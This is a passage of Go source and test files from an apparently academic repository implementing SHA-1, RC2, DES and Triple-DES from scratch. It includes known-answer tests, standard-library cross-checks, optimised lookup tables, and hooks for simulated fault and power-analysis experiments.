	rng := rand.New(rand.NewSource(2))
	rng.Read(msg)
	whole := Sum(msg)
	d := New()
	for i := 0; i < len(msg); {
		n := rng.Intn(70) + 1
		if i+n > len(msg) {
			n = len(msg) - i
		}
		d.Write(msg[i : i+n])
		i += n
	}
	if !bytes.Equal(d.Sum(nil), whole[:]) {
		t.Fatal("chunked digest differs from one-shot digest")
	}
}

func TestSumDoesNotMutate(t *testing.T) {
	d := New()
	d.Write([]byte("foo"))
	a := d.Sum(nil)
	b := d.Sum(nil)
	if !bytes.Equal(a, b) {
		t.Fatal("Sum mutated digest state")
	}
}

func TestStdlibEquivalenceProperty(t *testing.T) {
	f := func(msg []byte) bool {
		got := Sum(msg)
		want := stdmd5.Sum(msg)
		return got == want
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestReset(t *testing.T) {
	d := New()
	d.Write([]byte("garbage"))
	d.Reset()
	d.Write([]byte("abc"))
	want := Sum([]byte("abc"))
	if !bytes.Equal(d.Sum(nil), want[:]) {
		t.Fatal("Reset did not restore initial state")
	}
}

func BenchmarkSum1K(b *testing.B) {
	buf := make([]byte, 1024)
	b.SetBytes(1024)
	for i := 0; i < b.N; i++ {
		Sum(buf)
	}
}
