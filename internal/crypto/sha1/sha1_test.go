package sha1

import (
	"bytes"
	stdsha1 "crypto/sha1"
	"encoding/hex"
	"math/rand"
	"testing"
	"testing/quick"
)

var knownVectors = []struct {
	in   string
	want string
}{
	{"", "da39a3ee5e6b4b0d3255bfef95601890afd80709"},
	{"abc", "a9993e364706816aba3e25717850c26c9cd0d89d"},
	{"abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq",
		"84983e441c3bd26ebaae4aa1f95129e5e54670f1"},
	{"The quick brown fox jumps over the lazy dog",
		"2fd4e1c67a2d28fced849ee1bb76e7391b93eb12"},
}

func TestKnownVectors(t *testing.T) {
	for _, v := range knownVectors {
		got := Sum([]byte(v.in))
		if hex.EncodeToString(got[:]) != v.want {
			t.Errorf("SHA1(%q) = %x, want %s", v.in, got, v.want)
		}
	}
}

func TestMillionA(t *testing.T) {
	d := New()
	chunk := bytes.Repeat([]byte("a"), 1000)
	for i := 0; i < 1000; i++ {
		d.Write(chunk)
	}
	want := "34aa973cd4c4daa4f61eeb2bdbad27316534016f"
	if got := hex.EncodeToString(d.Sum(nil)); got != want {
		t.Fatalf("SHA1(10^6 'a') = %s, want %s", got, want)
	}
}

// TestAgainstStdlib cross-checks random messages, including awkward chunk
// boundaries, against crypto/sha1.
func TestAgainstStdlib(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	for i := 0; i < 200; i++ {
		n := rng.Intn(300)
		msg := make([]byte, n)
		rng.Read(msg)
		got := Sum(msg)
		want := stdsha1.Sum(msg)
		if got != want {
			t.Fatalf("len %d: got %x want %x", n, got, want)
		}
	}
}

// TestChunkedWrites verifies that the digest is independent of write
// partitioning.
func TestChunkedWrites(t *testing.T) {
	msg := make([]byte, 517)
	rng := rand.New(rand.NewSource(2))
	rng.Read(msg)
	whole := Sum(msg)
	d := New()
	for i := 0; i < len(msg); {
		n := rng.Intn(64) + 1
		if i+n > len(msg) {
			n = len(msg) - i
		}
		d.Write(msg[i : i+n])
		i += n
	}
	if !bytes.Equal(d.Sum(nil), whole[:]) {
		t.Fatal("chunked digest differs from one-shot digest")
	}
}

// TestSumDoesNotMutate verifies Sum leaves the running state intact.
func TestSumDoesNotMutate(t *testing.T) {
	d := New()
	d.Write([]byte("hello "))
	first := d.Sum(nil)
	second := d.Sum(nil)
	if !bytes.Equal(first, second) {
		t.Fatal("Sum mutated digest state")
	}
	d.Write([]byte("world"))
	want := Sum([]byte("hello world"))
	if !bytes.Equal(d.Sum(nil), want[:]) {
		t.Fatal("continuing after Sum gave wrong digest")
	}
}

// TestStdlibEquivalenceProperty is a testing/quick property against the
// stdlib oracle.
func TestStdlibEquivalenceProperty(t *testing.T) {
	f := func(msg []byte) bool {
		got := Sum(msg)
		want := stdsha1.Sum(msg)
		return got == want
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestInterfaceSizes(t *testing.T) {
	d := New()
	if d.Size() != 20 || d.BlockSize() != 64 {
		t.Fatalf("Size/BlockSize = %d/%d, want 20/64", d.Size(), d.BlockSize())
	}
}

func BenchmarkSum1K(b *testing.B) {
	buf := make([]byte, 1024)
	b.SetBytes(1024)
	for i := 0; i < b.N; i++ {
		Sum(buf)
	}
}
