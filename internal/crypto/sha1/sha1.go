// Package sha1 implements the SHA-1 hash function from scratch (FIPS 180-1).
//
// SHA-1 is one of the two message-authentication hashes the paper's
// protocols negotiate (SHA-1 or MD5, Section 3.1), and the integrity half
// of the 3DES+SHA workload behind the processing-gap figure (Section 3.2).
package sha1

import "repro/internal/crypto/bitutil"

// Size is the SHA-1 digest size in bytes.
const Size = 20

// BlockSize is the SHA-1 block size in bytes.
const BlockSize = 64

// Digest is a streaming SHA-1 computation. The zero value is not ready for
// use; call New.
type Digest struct {
	h   [5]uint32
	x   [BlockSize]byte
	nx  int
	len uint64
}

// New returns a new SHA-1 hash computation.
func New() *Digest {
	d := new(Digest)
	d.Reset()
	return d
}

// Reset returns the digest to its initial state.
func (d *Digest) Reset() {
	d.h = [5]uint32{0x67452301, 0xEFCDAB89, 0x98BADCFE, 0x10325476, 0xC3D2E1F0}
	d.nx = 0
	d.len = 0
}

// Size returns the digest size (20).
func (d *Digest) Size() int { return Size }

// BlockSize returns the block size (64).
func (d *Digest) BlockSize() int { return BlockSize }

// Write absorbs p into the hash state. It never fails.
func (d *Digest) Write(p []byte) (n int, err error) {
	n = len(p)
	d.len += uint64(n)
	if d.nx > 0 {
		c := copy(d.x[d.nx:], p)
		d.nx += c
		if d.nx == BlockSize {
			d.block(d.x[:])
			d.nx = 0
		}
		p = p[c:]
	}
	for len(p) >= BlockSize {
		d.block(p[:BlockSize])
		p = p[BlockSize:]
	}
	if len(p) > 0 {
		d.nx = copy(d.x[:], p)
	}
	return n, nil
}

// Sum appends the current digest to in and returns the result; the
// receiver's state is unchanged.
func (d *Digest) Sum(in []byte) []byte {
	dd := *d // copy so the caller can keep writing
	digest := dd.checkSum()
	return append(in, digest[:]...)
}

func (d *Digest) checkSum() [Size]byte {
	msgLen := d.len
	// Padding: 0x80, zeros, then the 64-bit big-endian bit length.
	var pad [BlockSize + 8]byte
	pad[0] = 0x80
	padLen := BlockSize - int(msgLen%BlockSize)
	if padLen < 9 {
		padLen += BlockSize
	}
	for i := 0; i < 8; i++ {
		pad[padLen-8+i] = byte(msgLen << 3 >> uint(56-8*i))
	}
	d.Write(pad[:padLen]) //nolint:errcheck // never fails

	var out [Size]byte
	for i, v := range d.h {
		bitutil.Store32(out[i*4:], v)
	}
	return out
}

// Round constants (FIPS 180-1 section 5).
const (
	k0 = 0x5A827999
	k1 = 0x6ED9EBA1
	k2 = 0x8F1BBCDC
	k3 = 0xCA62C1D6
)

// block runs the compression function with the 80-round loop split into
// its four 20-round phases, hoisting the per-round round-function switch
// out of the loop body. The schedule and additions are unchanged, so the
// digests are bit-identical to the reference loop.
func (d *Digest) block(p []byte) {
	var w [80]uint32
	for i := 0; i < 16; i++ {
		w[i] = bitutil.Load32(p[i*4:])
	}
	for i := 16; i < 80; i++ {
		t := w[i-3] ^ w[i-8] ^ w[i-14] ^ w[i-16]
		w[i] = t<<1 | t>>31
	}
	a, b, c, dd, e := d.h[0], d.h[1], d.h[2], d.h[3], d.h[4]
	for i := 0; i < 20; i++ {
		f := (b & c) | (^b & dd)
		t := (a<<5 | a>>27) + f + e + k0 + w[i]
		e, dd, c, b, a = dd, c, (b<<30 | b>>2), a, t
	}
	for i := 20; i < 40; i++ {
		f := b ^ c ^ dd
		t := (a<<5 | a>>27) + f + e + k1 + w[i]
		e, dd, c, b, a = dd, c, (b<<30 | b>>2), a, t
	}
	for i := 40; i < 60; i++ {
		f := (b & c) | (b & dd) | (c & dd)
		t := (a<<5 | a>>27) + f + e + k2 + w[i]
		e, dd, c, b, a = dd, c, (b<<30 | b>>2), a, t
	}
	for i := 60; i < 80; i++ {
		f := b ^ c ^ dd
		t := (a<<5 | a>>27) + f + e + k3 + w[i]
		e, dd, c, b, a = dd, c, (b<<30 | b>>2), a, t
	}
	d.h[0] += a
	d.h[1] += b
	d.h[2] += c
	d.h[3] += dd
	d.h[4] += e
}

// Sum returns the SHA-1 digest of data in one call.
func Sum(data []byte) [Size]byte {
	d := New()
	d.Write(data) //nolint:errcheck // never fails
	return d.checkSum()
}
