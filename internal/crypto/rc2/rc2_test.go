package rc2

import (
	"bytes"
	"encoding/hex"
	"testing"
	"testing/quick"
)

// RFC 2268 §5 test vectors.
var rfcVectors = []struct {
	key     string
	effBits int
	pt      string
	ct      string
}{
	{"0000000000000000", 63, "0000000000000000", "ebb773f993278eff"},
	{"ffffffffffffffff", 64, "ffffffffffffffff", "278b27e42e2f0d49"},
	{"3000000000000000", 64, "1000000000000001", "30649edf9be7d2c2"},
	{"88", 64, "0000000000000000", "61a8a244adacccf0"},
	{"88bca90e90875a", 64, "0000000000000000", "6ccf4308974c267f"},
	{"88bca90e90875a7f0f79c384627bafb2", 64, "0000000000000000", "1a807d272bbe5db1"},
	{"88bca90e90875a7f0f79c384627bafb2", 128, "0000000000000000", "2269552ab0f85ca6"},
	{"88bca90e90875a7f0f79c384627bafb216f80a6f85920584c42fceb0be255daf1e", 129,
		"0000000000000000", "5b78d3a43dfff1f1"},
}

func TestRFCVectors(t *testing.T) {
	for _, v := range rfcVectors {
		key, _ := hex.DecodeString(v.key)
		pt, _ := hex.DecodeString(v.pt)
		want, _ := hex.DecodeString(v.ct)
		c, err := NewCipherEffective(key, v.effBits)
		if err != nil {
			t.Fatalf("key %s: %v", v.key, err)
		}
		got := make([]byte, 8)
		c.Encrypt(got, pt)
		if !bytes.Equal(got, want) {
			t.Errorf("key %s eff %d: encrypt = %x, want %x", v.key, v.effBits, got, want)
			continue
		}
		back := make([]byte, 8)
		c.Decrypt(back, got)
		if !bytes.Equal(back, pt) {
			t.Errorf("key %s eff %d: decrypt roundtrip failed", v.key, v.effBits)
		}
	}
}

func TestRoundtripProperty(t *testing.T) {
	f := func(key [16]byte, block [8]byte) bool {
		c, err := NewCipher(key[:])
		if err != nil {
			return false
		}
		ct := make([]byte, 8)
		pt := make([]byte, 8)
		c.Encrypt(ct, block[:])
		c.Decrypt(pt, ct)
		return bytes.Equal(pt, block[:])
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

// TestRoundtripVariableKeys exercises odd key lengths, which stress the
// key-expansion wraparound.
func TestRoundtripVariableKeys(t *testing.T) {
	for _, klen := range []int{1, 5, 7, 8, 13, 16, 33, 64, 128} {
		key := make([]byte, klen)
		for i := range key {
			key[i] = byte(i*7 + klen)
		}
		c, err := NewCipher(key)
		if err != nil {
			t.Fatalf("klen %d: %v", klen, err)
		}
		pt := []byte{0xde, 0xad, 0xbe, 0xef, 0x01, 0x02, 0x03, 0x04}
		ct := make([]byte, 8)
		back := make([]byte, 8)
		c.Encrypt(ct, pt)
		c.Decrypt(back, ct)
		if !bytes.Equal(back, pt) {
			t.Fatalf("klen %d: roundtrip failed", klen)
		}
		if bytes.Equal(ct, pt) {
			t.Fatalf("klen %d: encryption is identity", klen)
		}
	}
}

// TestEffectiveBitsMatter verifies that shrinking the effective key length
// changes the cipher (the export-grade weakening the paper's SSL suite
// discussion mentions).
func TestEffectiveBitsMatter(t *testing.T) {
	key := []byte("sixteen byte key")
	full, _ := NewCipherEffective(key, 128)
	weak, _ := NewCipherEffective(key, 40)
	pt := make([]byte, 8)
	a := make([]byte, 8)
	b := make([]byte, 8)
	full.Encrypt(a, pt)
	weak.Encrypt(b, pt)
	if bytes.Equal(a, b) {
		t.Fatal("effective key bits had no effect")
	}
}

func TestKeySizeErrors(t *testing.T) {
	if _, err := NewCipher(nil); err == nil {
		t.Error("accepted empty key")
	}
	if _, err := NewCipher(make([]byte, 129)); err == nil {
		t.Error("accepted 129-byte key")
	}
	if _, err := NewCipherEffective(make([]byte, 8), 0); err == nil {
		t.Error("accepted 0 effective bits")
	}
	if _, err := NewCipherEffective(make([]byte, 8), 1025); err == nil {
		t.Error("accepted 1025 effective bits")
	}
}

func BenchmarkEncrypt(b *testing.B) {
	c, _ := NewCipher(make([]byte, 16))
	buf := make([]byte, 8)
	b.SetBytes(8)
	for i := 0; i < b.N; i++ {
		c.Encrypt(buf, buf)
	}
}
