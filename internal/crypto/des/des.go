// Package des implements the DES and Triple-DES (EDE) block ciphers from
// scratch, following FIPS 46-3.
//
// DES/3DES is the workhorse symmetric cipher of the security protocols the
// paper analyzes (Section 3.2 anchors its processing-gap figure on a
// 3DES+SHA protocol), and its bit-permutation structure is the canonical
// example of security processing that word-oriented embedded CPUs execute
// poorly (Section 4.2.1).
//
// The package additionally exposes the round internals (Feistel function,
// S-box lookups) needed by internal/attack/dpa to mount a first-round
// correlation power attack.
package des

import (
	"fmt"

	"repro/internal/crypto/bitutil"
)

// BlockSize is the DES block size in bytes.
const BlockSize = 8

// KeySize is the single-DES key size in bytes (including parity bits).
const KeySize = 8

// KeySizeError reports an invalid key length.
type KeySizeError int

func (k KeySizeError) Error() string {
	return fmt.Sprintf("des: invalid key size %d", int(k))
}

// Cipher is a single-DES block cipher instance.
type Cipher struct {
	subkeys [16]uint64 // 48-bit round subkeys, right-aligned
}

// NewCipher creates a DES cipher from an 8-byte key.
func NewCipher(key []byte) (*Cipher, error) {
	if len(key) != KeySize {
		return nil, KeySizeError(len(key))
	}
	c := new(Cipher)
	c.expandKey(key)
	return c, nil
}

// BlockSize returns the cipher block size (8).
func (c *Cipher) BlockSize() int { return BlockSize }

// Encrypt encrypts the 8-byte block src into dst.
func (c *Cipher) Encrypt(dst, src []byte) {
	b := bitutil.Load64(src)
	bitutil.Store64(dst, c.cryptBlock(b, false))
}

// Decrypt decrypts the 8-byte block src into dst.
func (c *Cipher) Decrypt(dst, src []byte) {
	b := bitutil.Load64(src)
	bitutil.Store64(dst, c.cryptBlock(b, true))
}

// Subkey returns round subkey i (0-based, right-aligned 48 bits). It is
// exported for the key-schedule tests and the DPA attack's verification
// step.
func (c *Cipher) Subkey(i int) uint64 { return c.subkeys[i] }

func (c *Cipher) expandKey(key []byte) {
	k := bitutil.Load64(key)
	cd := bitutil.PermuteBlock(k, permutedChoice1, 64) // 56 bits
	cHalf := uint32(cd >> 28)
	dHalf := uint32(cd & (1<<28 - 1))
	for i, shift := range keyShifts {
		cHalf = bitutil.RotateLeft28(cHalf, shift)
		dHalf = bitutil.RotateLeft28(dHalf, shift)
		combined := uint64(cHalf)<<28 | uint64(dHalf)
		c.subkeys[i] = bitutil.PermuteBlock(combined, permutedChoice2, 56)
	}
}

func (c *Cipher) cryptBlock(b uint64, decrypt bool) uint64 {
	b = permute64(&ipTab, b)
	left := uint32(b >> 32)
	right := uint32(b)
	if decrypt {
		for round := 15; round >= 0; round-- {
			left, right = right, left^feistelFast(right, c.subkeys[round])
		}
	} else {
		for round := 0; round < 16; round++ {
			left, right = right, left^feistelFast(right, c.subkeys[round])
		}
	}
	// The halves are swapped after the last round (no swap in round 16,
	// equivalently swap once more here).
	pre := uint64(right)<<32 | uint64(left)
	return permute64(&fpTab, pre)
}

// EncryptWithFault encrypts one block but flips a single bit of the
// right half entering the given round (0-based) — the computational
// fault a glitch induces, modeled at the exact point the
// Biham-Shamir differential fault analysis [43] assumes (round=15 flips
// R15 ahead of the final round). It exists for the DFA experiment in
// internal/attack/dfa.
func (c *Cipher) EncryptWithFault(dst, src []byte, round int, bit uint) {
	b := bitutil.Load64(src)
	b = permute64(&ipTab, b)
	left := uint32(b >> 32)
	right := uint32(b)
	for r := 0; r < 16; r++ {
		if r == round {
			right ^= 1 << (bit % 32)
		}
		left, right = right, left^feistelFast(right, c.subkeys[r])
	}
	pre := uint64(right)<<32 | uint64(left)
	bitutil.Store64(dst, permute64(&fpTab, pre))
}

// PInverse applies the inverse of the round permutation P — the DFA
// attack uses it to map ciphertext differences back to S-box output
// differences.
func PInverse(v uint32) uint32 {
	var out uint32
	for pos, src := range roundPermutation {
		// P maps input bit src (1-based from MSB) to output bit pos+1.
		bit := v >> uint(32-(pos+1)) & 1
		out |= bit << uint(32-int(src))
	}
	return out
}

// Feistel computes the DES round function f(R, K) for a 32-bit half block
// and a 48-bit subkey. Exported for the DPA attack model; internally it
// uses the fused SP-box tables, which produce bit-identical output to the
// reference expand/substitute/permute pipeline (see fast.go and the
// equivalence test).
func Feistel(right uint32, subkey uint64) uint32 {
	return feistelFast(right, subkey)
}

// SBox performs the lookup of S-box `box` (0-7) on a 6-bit input, where the
// row is formed by bits 1 and 6 and the column by bits 2-5, per FIPS 46-3.
func SBox(box int, in6 uint8) uint8 {
	row := (in6>>4)&2 | in6&1
	col := (in6 >> 1) & 0xf
	return sBoxes[box][row][col]
}

// ExpandHalf applies the DES expansion permutation E to a 32-bit half
// block, returning 48 bits. Exported for the DPA attack model, which needs
// the per-S-box input chunks.
func ExpandHalf(right uint32) uint64 {
	return bitutil.PermuteBlock(uint64(right), expansion, 32)
}

// InitialPermute applies the DES initial permutation to a 64-bit block.
// Exported for the DPA attack model.
func InitialPermute(b uint64) uint64 {
	return permute64(&ipTab, b)
}

// TripleCipher is a 3DES (EDE) cipher instance. With a 24-byte key the
// three stages use independent keys (keying option 1); with a 16-byte key
// the first and third stages share a key (keying option 2).
type TripleCipher struct {
	k1, k2, k3 Cipher
}

// NewTripleCipher creates a 3DES cipher from a 16- or 24-byte key.
func NewTripleCipher(key []byte) (*TripleCipher, error) {
	var k1, k2, k3 []byte
	switch len(key) {
	case 24:
		k1, k2, k3 = key[0:8], key[8:16], key[16:24]
	case 16:
		k1, k2, k3 = key[0:8], key[8:16], key[0:8]
	default:
		return nil, KeySizeError(len(key))
	}
	c := new(TripleCipher)
	c.k1.expandKey(k1)
	c.k2.expandKey(k2)
	c.k3.expandKey(k3)
	return c, nil
}

// BlockSize returns the cipher block size (8).
func (c *TripleCipher) BlockSize() int { return BlockSize }

// Encrypt performs EDE encryption of one block.
func (c *TripleCipher) Encrypt(dst, src []byte) {
	b := bitutil.Load64(src)
	b = c.k1.cryptBlock(b, false)
	b = c.k2.cryptBlock(b, true)
	b = c.k3.cryptBlock(b, false)
	bitutil.Store64(dst, b)
}

// Decrypt performs EDE decryption of one block.
func (c *TripleCipher) Decrypt(dst, src []byte) {
	b := bitutil.Load64(src)
	b = c.k3.cryptBlock(b, true)
	b = c.k2.cryptBlock(b, false)
	b = c.k1.cryptBlock(b, true)
	bitutil.Store64(dst, b)
}
