package des

import (
	"math/bits"

	"repro/internal/crypto/bitutil"
)

// Precomputed fast-path tables. DES's bit-permutation structure is the
// canonical workload a word-oriented CPU executes poorly (Section 4.2.1);
// the software answer is the same one hardware takes — fold the
// permutations into lookup tables once, at start-up:
//
//   - spBox fuses each S-box with the round permutation P, so the Feistel
//     function is eight table lookups ORed together instead of eight
//     S-box lookups followed by a 32-entry bit scatter;
//   - ipTab/fpTab evaluate the initial/final permutations one source byte
//     at a time (8 lookups of 256-entry tables) instead of one source bit
//     at a time (64 iterations).
//
// All tables are derived from the FIPS 46-3 tables in tables.go, so the
// reference data remains the single source of truth and the slow generic
// helpers (SBox, PInverse, bitutil.PermuteBlock) stay available to the
// side-channel attack models, which reason about individual S-boxes.

// spBox[b][v] is P(S_b(v)) placed at S-box b's 4-bit output position.
var spBox [8][64]uint32

// ipTab and fpTab evaluate the initial and final permutations bytewise:
// table[i][v] is the permutation of value v placed at source byte i.
var ipTab, fpTab [8][256]uint64

func init() {
	for b := 0; b < 8; b++ {
		for v := 0; v < 64; v++ {
			out := uint32(SBox(b, uint8(v))) << uint(4*(7-b))
			spBox[b][v] = uint32(bitutil.PermuteBlock(uint64(out), roundPermutation, 32))
		}
	}
	buildPermTab(&ipTab, initialPermutation)
	buildPermTab(&fpTab, finalPermutation)
}

func buildPermTab(tab *[8][256]uint64, perm []uint8) {
	for i := 0; i < 8; i++ {
		for v := 0; v < 256; v++ {
			src := uint64(v) << uint(56-8*i)
			tab[i][v] = bitutil.PermuteBlock(src, perm, 64)
		}
	}
}

// permute64 applies a bytewise-precomputed 64-bit permutation.
func permute64(tab *[8][256]uint64, b uint64) uint64 {
	return tab[0][b>>56] | tab[1][b>>48&0xff] | tab[2][b>>40&0xff] | tab[3][b>>32&0xff] |
		tab[4][b>>24&0xff] | tab[5][b>>16&0xff] | tab[6][b>>8&0xff] | tab[7][b&0xff]
}

// feistelFast computes f(R, K) via the fused SP-boxes. The expansion E
// needs no table at all: S-box b's 6-bit input is the window of R covering
// 1-based bit positions 4b..4b+5 (wrapping), which a rotation exposes at
// the top of the word. Identical output to the reference Feistel.
func feistelFast(r uint32, k uint64) uint32 {
	return spBox[0][(bits.RotateLeft32(r, 31)>>26^uint32(k>>42))&0x3f] |
		spBox[1][(bits.RotateLeft32(r, 3)>>26^uint32(k>>36))&0x3f] |
		spBox[2][(bits.RotateLeft32(r, 7)>>26^uint32(k>>30))&0x3f] |
		spBox[3][(bits.RotateLeft32(r, 11)>>26^uint32(k>>24))&0x3f] |
		spBox[4][(bits.RotateLeft32(r, 15)>>26^uint32(k>>18))&0x3f] |
		spBox[5][(bits.RotateLeft32(r, 19)>>26^uint32(k>>12))&0x3f] |
		spBox[6][(bits.RotateLeft32(r, 23)>>26^uint32(k>>6))&0x3f] |
		spBox[7][(bits.RotateLeft32(r, 27)>>26^uint32(k))&0x3f]
}
