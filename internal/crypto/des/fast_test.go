package des

import (
	"testing"

	"repro/internal/crypto/bitutil"
	"repro/internal/crypto/prng"
)

// referenceFeistel is the original expand/substitute/permute pipeline the
// fused SP-box tables replace; the fast path must match it bit for bit.
func referenceFeistel(right uint32, subkey uint64) uint32 {
	expanded := bitutil.PermuteBlock(uint64(right), expansion, 32)
	x := expanded ^ subkey
	var out uint32
	for box := 0; box < 8; box++ {
		six := uint8(x >> (uint(7-box) * 6) & 0x3f)
		out = out<<4 | uint32(SBox(box, six))
	}
	return uint32(bitutil.PermuteBlock(uint64(out), roundPermutation, 32))
}

func TestFeistelFastMatchesReference(t *testing.T) {
	rng := prng.NewDRBG([]byte("feistel-equivalence"))
	for i := 0; i < 5000; i++ {
		r := uint32(bitutil.Load64(rng.Bytes(8)))
		k := bitutil.Load64(rng.Bytes(8)) & (1<<48 - 1)
		if got, want := feistelFast(r, k), referenceFeistel(r, k); got != want {
			t.Fatalf("feistelFast(%#x, %#x) = %#x, want %#x", r, k, got, want)
		}
	}
	// Edge values.
	for _, r := range []uint32{0, 0xffffffff, 0x80000001} {
		for _, k := range []uint64{0, 1<<48 - 1} {
			if got, want := feistelFast(r, k), referenceFeistel(r, k); got != want {
				t.Fatalf("feistelFast(%#x, %#x) = %#x, want %#x", r, k, got, want)
			}
		}
	}
}

func TestPermute64MatchesReference(t *testing.T) {
	rng := prng.NewDRBG([]byte("permute-equivalence"))
	for i := 0; i < 5000; i++ {
		b := bitutil.Load64(rng.Bytes(8))
		if got, want := permute64(&ipTab, b), bitutil.PermuteBlock(b, initialPermutation, 64); got != want {
			t.Fatalf("IP(%#x) = %#x, want %#x", b, got, want)
		}
		if got, want := permute64(&fpTab, b), bitutil.PermuteBlock(b, finalPermutation, 64); got != want {
			t.Fatalf("FP(%#x) = %#x, want %#x", b, got, want)
		}
	}
	// IP and FP must remain inverses under the table path.
	for i := 0; i < 100; i++ {
		b := bitutil.Load64(rng.Bytes(8))
		if got := permute64(&fpTab, permute64(&ipTab, b)); got != b {
			t.Fatalf("FP(IP(%#x)) = %#x", b, got)
		}
	}
}

func BenchmarkDESBlock(b *testing.B) {
	c, err := NewCipher([]byte{0x13, 0x34, 0x57, 0x79, 0x9B, 0xBC, 0xDF, 0xF1})
	if err != nil {
		b.Fatal(err)
	}
	src := []byte{0x01, 0x23, 0x45, 0x67, 0x89, 0xAB, 0xCD, 0xEF}
	dst := make([]byte, 8)
	b.SetBytes(BlockSize)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		c.Encrypt(dst, src)
	}
}

func Benchmark3DESBlock(b *testing.B) {
	c, err := NewTripleCipher(make([]byte, 24))
	if err != nil {
		b.Fatal(err)
	}
	src := make([]byte, 8)
	dst := make([]byte, 8)
	b.SetBytes(BlockSize)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		c.Encrypt(dst, src)
	}
}
