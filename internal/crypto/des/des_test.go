package des

import (
	"bytes"
	stddes "crypto/des"
	"encoding/hex"
	"math/rand"
	"testing"
	"testing/quick"
)

// TestFIPSVector checks the classic FIPS 46 example pair.
func TestFIPSVector(t *testing.T) {
	key, _ := hex.DecodeString("133457799BBCDFF1")
	pt, _ := hex.DecodeString("0123456789ABCDEF")
	want, _ := hex.DecodeString("85E813540F0AB405")
	c, err := NewCipher(key)
	if err != nil {
		t.Fatalf("NewCipher: %v", err)
	}
	got := make([]byte, 8)
	c.Encrypt(got, pt)
	if !bytes.Equal(got, want) {
		t.Fatalf("encrypt = %x, want %x", got, want)
	}
	back := make([]byte, 8)
	c.Decrypt(back, got)
	if !bytes.Equal(back, pt) {
		t.Fatalf("decrypt = %x, want %x", back, pt)
	}
}

// TestWeakKeyAllZero exercises a degenerate key to make sure the schedule
// doesn't blow up; the all-zero key is a documented DES weak key for which
// encryption is an involution.
func TestWeakKeyAllZero(t *testing.T) {
	key := make([]byte, 8)
	c, err := NewCipher(key)
	if err != nil {
		t.Fatal(err)
	}
	pt := []byte{1, 2, 3, 4, 5, 6, 7, 8}
	ct := make([]byte, 8)
	c.Encrypt(ct, pt)
	again := make([]byte, 8)
	c.Encrypt(again, ct)
	if !bytes.Equal(again, pt) {
		t.Fatalf("weak key should make Encrypt an involution: got %x want %x", again, pt)
	}
}

// TestAgainstStdlib cross-checks random key/plaintext pairs against the Go
// standard library DES implementation.
func TestAgainstStdlib(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	for i := 0; i < 200; i++ {
		key := make([]byte, 8)
		pt := make([]byte, 8)
		rng.Read(key)
		rng.Read(pt)
		ours, err := NewCipher(key)
		if err != nil {
			t.Fatal(err)
		}
		ref, err := stddes.NewCipher(key)
		if err != nil {
			t.Fatal(err)
		}
		got := make([]byte, 8)
		want := make([]byte, 8)
		ours.Encrypt(got, pt)
		ref.Encrypt(want, pt)
		if !bytes.Equal(got, want) {
			t.Fatalf("key %x pt %x: encrypt = %x, stdlib %x", key, pt, got, want)
		}
		back := make([]byte, 8)
		ours.Decrypt(back, got)
		if !bytes.Equal(back, pt) {
			t.Fatalf("key %x: decrypt(encrypt(pt)) = %x, want %x", key, back, pt)
		}
	}
}

// TestTripleAgainstStdlib cross-checks 3DES with both keying options.
func TestTripleAgainstStdlib(t *testing.T) {
	rng := rand.New(rand.NewSource(2))
	for _, klen := range []int{16, 24} {
		for i := 0; i < 100; i++ {
			key := make([]byte, klen)
			pt := make([]byte, 8)
			rng.Read(key)
			rng.Read(pt)
			ours, err := NewTripleCipher(key)
			if err != nil {
				t.Fatal(err)
			}
			refKey := key
			if klen == 16 {
				refKey = append(append([]byte{}, key...), key[:8]...)
			}
			ref, err := stddes.NewTripleDESCipher(refKey)
			if err != nil {
				t.Fatal(err)
			}
			got := make([]byte, 8)
			want := make([]byte, 8)
			ours.Encrypt(got, pt)
			ref.Encrypt(want, pt)
			if !bytes.Equal(got, want) {
				t.Fatalf("klen %d key %x: encrypt = %x, stdlib %x", klen, key, got, want)
			}
			back := make([]byte, 8)
			ours.Decrypt(back, got)
			if !bytes.Equal(back, pt) {
				t.Fatalf("klen %d: roundtrip failed", klen)
			}
		}
	}
}

// TestRoundtripProperty is a testing/quick property: decrypt∘encrypt = id
// for arbitrary keys and blocks.
func TestRoundtripProperty(t *testing.T) {
	f := func(key, block [8]byte) bool {
		c, err := NewCipher(key[:])
		if err != nil {
			return false
		}
		ct := make([]byte, 8)
		pt := make([]byte, 8)
		c.Encrypt(ct, block[:])
		c.Decrypt(pt, ct)
		return bytes.Equal(pt, block[:])
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

// TestTripleRoundtripProperty checks the 3DES roundtrip for both keying
// options via testing/quick.
func TestTripleRoundtripProperty(t *testing.T) {
	f := func(key [24]byte, block [8]byte, twoKey bool) bool {
		k := key[:]
		if twoKey {
			k = key[:16]
		}
		c, err := NewTripleCipher(k)
		if err != nil {
			return false
		}
		ct := make([]byte, 8)
		pt := make([]byte, 8)
		c.Encrypt(ct, block[:])
		c.Decrypt(pt, ct)
		return bytes.Equal(pt, block[:])
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

// TestComplementationProperty verifies the DES complementation property
// E_k(p) = ^E_^k(^p), a strong structural check on the round function.
func TestComplementationProperty(t *testing.T) {
	rng := rand.New(rand.NewSource(3))
	for i := 0; i < 50; i++ {
		key := make([]byte, 8)
		pt := make([]byte, 8)
		rng.Read(key)
		rng.Read(pt)
		nkey := make([]byte, 8)
		npt := make([]byte, 8)
		for j := range key {
			nkey[j] = ^key[j]
			npt[j] = ^pt[j]
		}
		c1, _ := NewCipher(key)
		c2, _ := NewCipher(nkey)
		ct1 := make([]byte, 8)
		ct2 := make([]byte, 8)
		c1.Encrypt(ct1, pt)
		c2.Encrypt(ct2, npt)
		for j := range ct1 {
			if ct1[j] != ^ct2[j] {
				t.Fatalf("complementation property violated at byte %d", j)
			}
		}
	}
}

func TestKeySizeErrors(t *testing.T) {
	for _, n := range []int{0, 7, 9, 16} {
		if _, err := NewCipher(make([]byte, n)); err == nil {
			t.Errorf("NewCipher accepted %d-byte key", n)
		}
	}
	for _, n := range []int{0, 8, 23, 25} {
